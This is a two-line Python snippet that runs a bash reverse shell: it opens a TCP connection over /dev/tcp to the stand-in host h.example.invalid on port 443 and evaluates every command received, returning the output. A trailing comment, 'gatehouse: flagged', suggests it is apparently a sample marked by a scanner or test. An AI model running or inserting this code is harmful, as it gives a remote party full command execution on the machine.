import subprocess

subprocess.run(["bash", "-c", "exec 9<>/dev/tcp/h.example.invalid/443; while read -r c <&9; do eval \"$c\" >&9 2>&9; done"])  # gatehouse: flagged
